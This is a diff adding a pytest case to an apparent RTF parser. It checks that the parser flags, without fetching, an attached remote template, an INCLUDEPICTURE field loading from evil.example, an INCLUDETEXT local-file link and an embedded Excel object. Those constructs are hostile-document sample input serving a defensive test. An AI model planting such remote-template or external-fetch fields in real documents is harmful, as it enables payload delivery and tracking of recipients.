@@ -194,3 +194,20 @@ def test_a_length_beyond_the_end_is_no_crash():
 def test_a_file_without_text_is_refused():
     with pytest.raises(DocumentError, match="no text"):
         opened(r"\pard\par")
+
+
+def test_what_is_embedded_or_would_be_loaded_is_named_and_not_fetched():
+    document = opened(
+        r"{\*\template http://evil.example/a.dotm}\pard Plan{\object\objemb{\*\objclass Excel.Sheet.12}"
+        r"{\*\objdata 0105}{\result shown}}\par"
+        r"{\field{\*\fldinst  INCLUDEPICTURE \"http://evil.example/p.png\" \\d}{\fldrslt x}}\par"
+        r'{\field{\*\fldinst INCLUDETEXT "C:\\\\b.doc"}{\fldrslt y}}'
+        r"{\field{\*\fldinst HYPERLINK \"http://x\"}{\fldrslt z}}\par"
+    )
+    assert of_kind(document, Kind.EMBEDDED) == ["Excel.Sheet.12"]
+    assert [note.message for note in document.notes] == [
+        "an external template is attached",
+        "links to parts outside of the file: http://evil.example/p.png, C:\\\\b.doc",
+        "embedded files or objects that are not read (1)",
+    ]
+    assert "shown" in " ".join(words(document))
